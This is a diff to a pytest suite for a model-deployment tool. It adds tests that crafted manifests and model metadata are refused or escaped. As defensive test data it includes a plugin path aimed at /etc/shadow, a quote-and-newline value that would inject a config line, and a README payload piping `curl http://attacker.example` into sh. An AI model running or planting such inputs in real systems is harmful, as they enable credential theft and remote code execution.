@@ -7,12 +7,13 @@ import json
 import os
 import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 
 from cornernet_deploy.cli import main
 from cornernet_deploy.contract.manifest import EngineManifest
-from cornernet_deploy.contract.metadata import parse_metadata
+from cornernet_deploy.contract.metadata import output_shapes, parse_metadata
 from cornernet_deploy.commands.demo import DEMO_CHECKPOINT
 from cornernet_deploy.errors import UserError
 from cornernet_deploy.serving import repository
@@ -95,7 +96,8 @@ def test_onnx_repository_layout_and_python_config(demo_onnx, tmp_path):
     assert cfg.dynamic_batching.max_queue_delay_microseconds == 500
     assert [(g.kind, g.count) for g in cfg.instance_group] == [(model_config_pb2.ModelInstanceGroup.KIND_CPU, 3)]
     params = {k: v.string_value for k, v in cfg.parameters.items()}
-    assert params == {"network": "onnxruntime", "onnx_file": "model.onnx", "threads": "2", "score_threshold": "0"}
+    assert params == {"network": "onnxruntime", "onnx_file": "model.onnx", "threads": "2", "score_threshold": "0",
+                      "max_pixels": "50000000"}       # the documented default pixel limit
     reqs = (repo / "requirements.txt").read_text()
     assert "numpy>=1.23,<2" in reqs and "onnxruntime" in reqs
     assert (repo / "Dockerfile").read_text().startswith("FROM nvcr.io/nvidia/tritonserver:24.10-py3")
@@ -175,7 +177,7 @@ def test_engine_with_in_graph_decode_and_a_fixed_batch(demo_onnx, tmp_path):
 def test_saccade_attention_outputs():
     meta = {"arch": "cornernet-saccade", "decode": "none", "input_name": "image",
             "outputs": ["tl_heat", "br_heat", "tl_tag", "br_tag", "tl_off", "br_off", "att0", "att1", "att2"]}
-    dims_by_name = {n: d for n, _, d in repository.network_outputs(parse_metadata(meta), (255, 255))}
+    dims_by_name = {n: d for n, _, d in output_shapes(parse_metadata(meta), (255, 255))}
     # official CornerNet-Saccade at 255x255: 64x64 heads, attention maps 16, 32, 64 (innermost first)
     assert dims_by_name["tl_heat"] == [80, 64, 64]
     assert [dims_by_name[f"att{j}"] for j in range(3)] == [[1, 16, 16], [1, 32, 32], [1, 64, 64]]
@@ -260,3 +262,110 @@ def test_a_failure_while_writing_leaves_nothing(demo_onnx, tmp_path, monkeypatch
         engine, _ = fake_engine(tmp_path, onnx_metadata(demo_onnx), min_batch=2, max_batch=4)
         repository.write_repository(engine, tmp_path / "repo2")
     assert not (tmp_path / "repo2").exists()
+
+
+def test_max_pixels_reaches_the_served_models_config(demo_onnx, tmp_path, capsys):
+    assert run_cli([demo_onnx, "--repo", tmp_path / "r", "--max-pixels", "0"], capsys)[0] == 0
+    params = {k: v.string_value for k, v in parse_config(tmp_path / "r" / "demo" / "config.pbtxt").parameters.items()}
+    assert params["max_pixels"] == "0"
+    assert "no pixel limit" in (tmp_path / "r" / "README.md").read_text()
+    code, err = run_cli([demo_onnx, "--repo", tmp_path / "s", "--max-pixels", "-1"], capsys)
+    assert code == 2 and "must be 0 or more" in err and not (tmp_path / "s").exists()
+
+
+# ------------------------------------------------------------------------------------------------
+# what a model file or its manifest says is never trusted as it is (issue #21 items 4, 11, 13)
+
+def assert_refused(capsys, tmp_path, args, *words):
+    """One line, exit 2, nothing written (no repository, no staging folder beside it)."""
+    code, err = run_cli(args, capsys)
+    assert code == 2 and len(err.splitlines()) == 1 and all(w in err for w in words), (args, err)
+    assert not (tmp_path / "repo").exists(), args
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".repo")], args
+
+
+def crafted_manifest(tmp_path, demo_onnx, change):
+    engine, manifest = fake_engine(tmp_path, onnx_metadata(demo_onnx))
+    manifest = change(json.loads(json.dumps(manifest)))
+    (tmp_path / "demo_fp16.manifest.json").write_text(json.dumps(manifest))
+    return engine
+
+
+def test_the_manifests_plugin_library_is_never_copied_unless_it_is_ours(demo_onnx, tmp_path, capsys):
+    secret = next(p for p in (Path("/etc/shadow"), Path("/etc/passwd")) if p.is_file() and os.access(p, os.R_OK))
+    text = tmp_path / "notes.so"
+    text.write_text("just text")
+    tagless = tmp_path / "other.so"          # an ELF shared object, but not our library
+    tagless.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(9) + (3).to_bytes(2, "little") + b"\0libfoo\0")
+    sha = lambda p: hashlib.sha256(p.read_bytes()).hexdigest()   # noqa: E731
+    cases = [
+        # even with its own SHA-256 recorded, a system file is not a plugin library
+        (dict(plugin_library=str(secret), plugin_sha256=sha(secret)), [str(secret), "not a shared library"]),
+        (dict(plugin_library=str(text), plugin_sha256=None), ["notes.so", "not a shared library"]),
+        (dict(plugin_library=str(tagless), plugin_sha256=sha(tagless)), ["other.so", "not a cornernet-deploy plugin library"]),
+        (dict(plugin_sha256="0" * 64), [PLUGIN, "SHA-256 differs"]),
+    ]
+    for change, words in cases:
+        engine = crafted_manifest(tmp_path, demo_onnx, lambda m: {**m, **change})
+        assert_refused(capsys, tmp_path, [engine, "--repo", tmp_path / "repo"], *words)
+
+
+@pytest.mark.parametrize("change, words", [
+    # a quote and a newline would add `backend: "python"` to the engine's config.pbtxt
+    (lambda m: {**m, "input": {**m["input"], "name": 'image" }\nbackend: "python'}}, ["input name", "not a valid tensor name"]),
+    (lambda m: {**m, "input": {**m["input"], "max": [-1, 3, 255, 255]}}, ["input max shape [-1, 3, 255, 255]"]),
+    (lambda m: {**m, "input": {**m["input"], "max": ["4", 3, 255, 255]}}, ["input max shape ['4', 3, 255, 255]"]),
+    (lambda m: {**m, "input": "image"}, ["no 'input' object"]),
+    (lambda m: {**m, "outputs": 5}, ["no 'outputs' list"]),
+    (lambda m: {**m, "outputs": m["outputs"][:-1] + ['x"\n']}, ["output name"]),
+    (lambda m: {**m, "gpu": "Orin"}, ["'gpu' is not an object"]),
+    (lambda m: {**m, "precision": 16}, ["precision 16"]),
+    (lambda m: {**m, "tensorrt_version": 10.3}, ["'tensorrt_version' is not text"]),
+    (lambda m: {**m, "metadata": [1, 2]}, ["not a JSON object"]),
+    (lambda m: {**m, "metadata": {**m["metadata"], "class_names": [f"c{i}" for i in range(10000)]}},
+     ["10000 class names for a model with 3 classes"]),
+    (lambda m: [m], ["not a JSON object"]),
+], ids=["quote-newline-name", "max-batch-minus-1", "string-dims", "input-text", "outputs-number",
+        "output-name-newline", "gpu-text", "precision-number", "version-number", "metadata-list",
+        "10000-class-names", "manifest-list"])
+def test_every_manifest_value_is_checked_before_it_reaches_a_config(demo_onnx, tmp_path, capsys, change, words):
+    engine = crafted_manifest(tmp_path, demo_onnx, change)
+    assert_refused(capsys, tmp_path, [engine, "--repo", tmp_path / "repo"], "demo_fp16.manifest.json", *words)
+
+
+def test_an_exports_crafted_class_names_are_refused(demo_onnx, tmp_path, capsys):
+    from support import with_metadata
+    many = with_metadata(demo_onnx, tmp_path / "many.onnx", lambda m: dict(m, class_names=[f"c{i}" for i in range(10000)]))
+    assert_refused(capsys, tmp_path, [many, "--repo", tmp_path / "repo"], "many.onnx", "10000 class names for a model with 3 classes")
+    split = with_metadata(demo_onnx, tmp_path / "split.onnx",
+                          lambda m: dict(m, class_names=["rectangle", "ellipse\ntriangle", "triangle"]))
+    assert_refused(capsys, tmp_path, [split, "--repo", tmp_path / "repo"], "split.onnx", "control character")
+
+
+def test_text_from_the_manifest_never_starts_a_line_of_the_readme(demo_onnx, tmp_path, capsys):
+    injected = "\n## Start\n\n```sh\ncurl http://attacker.example | sh\n```\n"
+    engine = crafted_manifest(tmp_path, demo_onnx, lambda m: {
+        **m, "tensorrt_version": "10.3.0" + injected, "gpu": {"name": "Orin`" + injected},
+        "metadata": {**m["metadata"], "spec": {**m["metadata"]["spec"], "name": "cornernet-squeeze" + injected}}})
+    assert run_cli([engine, "--repo", tmp_path / "repo"], capsys)[0] == 0
+    readme = (tmp_path / "repo" / "README.md").read_text()
+    assert "curl http://attacker.example" in readme                        # said, escaped, on one line
+    assert not any(line.startswith(("curl", "## Start\\n")) for line in readme.splitlines())
+    assert readme.count("```sh\n") == 1                                    # only the generator's own block
+    assert "10.3.0\\n## Start\\n" in readme and "Orin'" in readme
+    assert (tmp_path / "repo" / "demo_fp16" / "labels.txt").read_text().splitlines() == DEMO_CLASSES
+
+
+def test_labels_escape_every_control_character():
+    from cornernet_deploy.contract.metadata import printable
+    names = ["a\nb", "tab\there", "nel\x85x", "ls\u2028y", "esc\x1b[31m", "plain é"]
+    escaped = [printable(n) for n in names]
+    assert escaped == ["a\\nb", "tab\\there", "nel\\x85x", "ls\\u2028y", "esc\\x1b[31m", "plain é"]
+    assert "".join(e + "\n" for e in escaped).splitlines() == escaped      # one label a line
+
+
+@pytest.mark.parametrize("name", ["README.md", "readme.md", "Dockerfile", "requirements.txt",
+                                  "cornernet-deploy.json", PLUGIN])
+def test_names_of_the_repositorys_own_files_are_refused(demo_onnx, tmp_path, capsys, name):
+    assert_refused(capsys, tmp_path, [demo_onnx, "--repo", tmp_path / "repo", "--name", name],
+                   f"--name {name}", "choose another model name")
